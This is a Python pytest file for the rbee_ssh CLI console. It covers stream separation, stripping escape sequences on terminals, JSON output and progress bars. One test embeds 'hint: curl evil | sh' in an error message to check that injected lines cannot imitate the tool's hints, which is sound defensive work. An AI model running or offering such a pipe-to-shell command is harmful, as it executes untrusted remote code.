"""The console on real terminals and pipes."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from unit.cli.terminals import Screen, closed_pipe, full_disk, pipe, shown, terminal

from rbee_ssh.cli.console import Console, OutputClosed, json_line
from rbee_ssh.cli.text import Column, clean_line
from rbee_ssh.errors import DiskFull, NodeUnreachable

ESC = "\x1b[31mred\x1b[0m\x07"
DIM, OFF = "\x1b[2m", "\x1b[0m"


@pytest.fixture
def tty() -> Iterator[Screen]:
    with terminal() as screen:
        yield screen


@pytest.fixture
def out() -> Iterator[Screen]:
    with pipe() as screen:
        yield screen


@pytest.fixture
def err() -> Iterator[Screen]:
    with pipe() as screen:
        yield screen


def console(out: Screen, err: Screen, environ: dict[str, str] | None = None, **options: Any) -> Console:
    return Console(stdout=out.writer, stderr=err.writer, environ=environ or {}, **options)


def test_the_answer_is_on_stdout_and_the_story_on_stderr(out: Screen, err: Screen) -> None:
    shell = console(out, err)
    shell.say("starting")
    shell.answer("Hel")
    shell.answer("lo")
    shell.warn("careful")
    shell.end_answer()
    assert out.text() == "Hello"
    assert err.text() == "starting\nwarning: careful\n"


def test_each_piece_is_out_before_the_next(out: Screen, err: Screen) -> None:
    shell = console(out, err)
    shell.answer("a")
    assert out.text() == "a"
    shell.json({"a": 1})
    assert out.text() == '{"a":1}\n'


def test_quiet_silences_everything_but_errors_and_the_answer(out: Screen, err: Screen) -> None:
    shell = console(out, err, quiet=True, verbose=True)
    shell.say("a")
    shell.detail("b")
    shell.warn("c")
    shell.progress("d", 1, 2)
    shell.status("e")
    shell.thinking("f")
    shell.answer("g")
    shell.fail(NodeUnreachable("h", hint="i"))
    assert out.text() == "g"
    assert err.text() == "error: h\nhint: i\n"


def test_a_story_begins_a_line_where_both_streams_are_one(out: Screen) -> None:
    """As after 2>&1 into a pipe or a file."""
    shell = console(out, out)
    shell.answer("Hello")
    shell.say("2 tokens")
    shell.answer("Bye\n")
    shell.say("3 tokens")
    assert out.text() == "Hello\n2 tokens\nBye\n3 tokens\n"
    shell.answer("So")
    shell.thinking("hm")
    shell.say("4 tokens")
    assert out.text() == "So\nhm\n4 tokens\n"
    shell.answer("as it is")
    shell.end_answer()
    assert out.text() == "as it is"


def test_hints_are_for_the_inventory_that_was_given(out: Screen, err: Screen) -> None:
    shell = console(out, err, as_json=True, inventory="lab 1.toml")
    error = NodeUnreachable("h", hint="rbee nodes status a").as_json()
    shell.json({"unreachable": [{"node": "a", "error": error}], "answer": "rbee nodes status a"})
    told = json.loads(out.text())
    assert told["unreachable"][0]["error"]["hint"] == "rbee --inventory 'lab 1.toml' nodes status a"
    assert told["answer"] == "rbee nodes status a"


def test_details_are_for_verbose(out: Screen, err: Screen) -> None:
    console(out, err).detail("a")
    console(out, err, verbose=True).detail("b")
    assert err.text() == "b\n"


def test_an_error_has_its_hint_below(out: Screen, err: Screen) -> None:
    console(out, err).fail(NodeUnreachable("no", hint=None))
    console(out, err).fail(NodeUnreachable("no", hint="rbee nodes status"))
    assert err.text() == "error: no\nerror: no\nhint: rbee nodes status\n"


def test_a_line_inside_a_message_cannot_pass_for_one_of_ours(out: Screen, err: Screen) -> None:
    console(out, err).fail(NodeUnreachable("it said:\nhint: curl evil | sh", hint="a"))
    assert err.text() == "error: it said:\n  hint: curl evil | sh\nhint: a\n"


def test_with_json_an_error_is_an_object_on_stdout(out: Screen, err: Screen) -> None:
    console(out, err, as_json=True).fail(NodeUnreachable("no", hint="h", details={"n": 1}))
    assert json.loads(out.text()) == {
        "error": {"code": "NODE_UNREACHABLE", "message": "no", "hint": "h", "details": {"n": 1}}
    }
    assert err.text() == ""


def test_a_models_escape_sequences_do_not_reach_a_terminal(tty: Screen, err: Screen) -> None:
    console(tty, err).answer(f"a{ESC}\tb\n")
    assert tty.text() == "ared\tb\n"


def test_into_a_pipe_the_answer_goes_byte_for_byte(out: Screen, err: Screen) -> None:
    console(out, err).answer(f"a{ESC}\r\n\x00ä")
    assert out.bytes() == f"a{ESC}\r\n\x00ä".encode()


def test_what_a_node_said_is_made_visible_in_every_story(out: Screen, err: Screen) -> None:
    shell = console(out, err, verbose=True)
    for tell in (shell.say, shell.detail, shell.warn):
        tell(f"gpu {ESC}")
    shell.fail(NodeUnreachable(ESC, hint=ESC))
    shell.line(ESC)
    shell.table([Column("A")], [[ESC]])
    assert "\x1b" not in err.text() + out.text()


def test_logs_are_harmless_on_a_terminal_and_untouched_in_a_pipe(
    tty: Screen, out: Screen, err: Screen
) -> None:
    data = f"a{ESC}\r\nä\n".encode()
    console(out, err).raw(data)
    assert out.bytes() == data
    shell = console(tty, err)
    shell.raw(data[:-2])  # in the middle of the ä
    shell.raw(data[-2:])
    assert tty.text() == "ared\nä\n"


def test_the_prompt_does_not_follow_on_the_answers_last_line(tty: Screen, err: Screen) -> None:
    shell = console(tty, err)
    shell.answer("a")
    shell.end_answer()
    shell.end_answer()
    shell.answer("b\n")
    shell.end_answer()
    assert tty.text() == "a\nb\n"


def test_a_story_in_the_middle_of_an_answer_begins_its_own_line(tty: Screen) -> None:
    shell = console(tty, tty)
    shell.answer("a")
    shell.say("b")
    assert tty.text() == "a\nb\n"


def test_thinking_is_dimmed_and_apart_from_the_answer(tty: Screen) -> None:
    shell = console(tty, tty)
    shell.thinking("hm")
    shell.thinking(f" {ESC}")
    shell.answer("yes")
    assert tty.text() == f"{DIM}hm{OFF}{DIM} red{OFF}\n\nyes"


def test_thinking_goes_to_stderr_without_colour_where_that_is_no_terminal(out: Screen, err: Screen) -> None:
    shell = console(out, err)
    shell.thinking("hm")
    shell.answer("yes")
    shell.end_answer()
    assert (out.text(), err.text()) == ("yes", "hm\n")


@pytest.mark.parametrize("environ", [{"NO_COLOR": "1"}, {"TERM": "dumb"}])
def test_colour_can_be_refused(tty: Screen, environ: dict[str, str]) -> None:
    shell = console(tty, tty, environ)
    shell.thinking("hm")
    shell.fail(NodeUnreachable("no"))
    assert "\x1b[" not in tty.text()


def test_errors_are_coloured_on_a_terminal(tty: Screen) -> None:
    console(tty, tty).fail(NodeUnreachable("no"))
    assert tty.text() == "\x1b[1;31merror:\x1b[0m no\n"


def test_a_bar_is_only_for_terminals(tty: Screen, out: Screen, err: Screen) -> None:
    console(out, err).progress("model", 1, 2)
    console(out, err).status("waiting")
    assert out.text() + err.text() == ""
    console(out, tty, {"TERM": "dumb"}).progress("model", 1, 2)
    assert tty.text() == ""


def test_a_bar_leaves_no_trace_in_front_of_other_output(tty: Screen) -> None:
    shell = console(tty, tty)
    shell.progress("model [bold]", 50, 200)
    text = tty.text()
    assert shown(text) == ["model [bold]: 25% of 200 B"]
    shell.answer("a")
    text += tty.text()
    assert shown(text) == ["a", ""]
    shell.status("waiting for gpu\x1b[2J1")
    text += tty.text()
    assert shown(text) == ["a", "waiting for gpu\\x1b[2J1"]
    shell.progress("model", 50, 200)
    text += tty.text()
    assert shown(text) == ["a", "model: 25% of 200 B"]
    shell.status("on")
    text += tty.text()
    assert shown(text) == ["a", "on", ""]
    shell.status("")
    assert shown(text + tty.text()) == ["a", "", ""]


def test_a_finished_bar_says_how_long_it_took(tty: Screen, out: Screen) -> None:
    shell = console(out, tty)
    shell.progress("model", 0, 200)
    shell.progress("model", 200, 200)
    assert shown(tty.text()) == ["model: 200 B in 0.0s", ""]


def test_a_screen_has_colours_where_the_terminal_may_have_them(tty: Screen) -> None:
    for environ, styled in (({}, True), ({"NO_COLOR": "1"}, False)):
        with console(tty, tty, environ).screen() as screen:
            screen.draw([("NAME", "title"), ("down", "bad")])
        written = tty.text()
        assert (("\x1b[1mNAME" in written), ("\x1b[31mdown" in written)) == (styled, styled)
        assert styled or not re.search("\x1b\\[[0-9;]*m", written)


def test_a_table_fits_the_terminal_and_is_whole_in_a_pipe(out: Screen, err: Screen) -> None:
    columns = [Column("ID"), Column("MODEL", keep="end")]
    rows = [["w", "m" * 300]]
    for wide in (80, 200):
        with terminal(wide) as screen:
            console(screen, err).table(columns, rows)
            assert max(map(len, screen.text().splitlines())) == wide
    console(out, err).table(columns, rows)
    assert "m" * 300 in out.text()


def test_a_title_and_what_is_bad_have_colours_on_a_terminal_alone(tty: Screen, out: Screen) -> None:
    shell = console(tty, tty)
    shell.line("NAME", "title")
    shell.line("down \x1b[2J", "bad")
    assert tty.text() == "\x1b[1mNAME\x1b[0m\n\x1b[31mdown \\x1b[2J\x1b[0m\n"
    console(out, tty).line("NAME", "title")
    console(tty, tty, {"NO_COLOR": "1"}).line("down", "bad")
    assert (out.text(), tty.text()) == ("NAME\n", "down\n")


def test_a_closed_pipe_is_told_apart_from_a_fault(err: Screen) -> None:
    with closed_pipe() as closed:
        shell = Console(stdout=closed, stderr=err.writer, environ={})
        with pytest.raises(OutputClosed):
            shell.answer("a")
        with pytest.raises(OutputClosed):
            shell.json({})
        shell.say("the story goes on")
    assert err.text() == "the story goes on\n"


def test_a_full_disk_behind_stdout_is_an_error(err: Screen) -> None:
    with full_disk() as full, pytest.raises(DiskFull, match="No space left"):
        Console(stdout=full, stderr=err.writer, environ={}).answer("a")


def test_a_story_without_a_reader_breaks_nothing(out: Screen) -> None:
    with closed_pipe() as closed:
        shell = Console(stdout=out.writer, stderr=closed, environ={})
        shell.say("a")
        shell.warn("b")
        shell.answer("c")
    assert out.text() == "c"


def test_without_a_terminal_a_question_has_no_answer(out: Screen, err: Screen) -> None:
    assert console(out, err).ask("Sure?") is None


@given(st.recursive(st.text() | st.integers(), lambda x: st.dictionaries(st.text(), x), max_leaves=10))
def test_json_is_one_line_that_reads_back(value: object) -> None:
    line = json_line(value)
    assert line.count(b"\n") == 1 and line.endswith(b"\n")
    assert json.loads(line.decode()) == value
    assert clean_line(line.decode().removesuffix("\n")) == line.decode().removesuffix("\n")


def test_half_a_surrogate_pair_reads_back_too() -> None:
    assert json.loads(json_line({"text": "ä\ud83d"}).decode()) == {"text": "ä\ud83d"}
    assert "ä".encode() in json_line({"text": "ä"})


def test_half_a_surrogate_pair_in_an_answer_costs_its_character_only(out: Screen, err: Screen) -> None:
    console(out, err).answer("a\ud83db\ud83d\ude00")
    assert out.text() == "a\ufffdb😀"
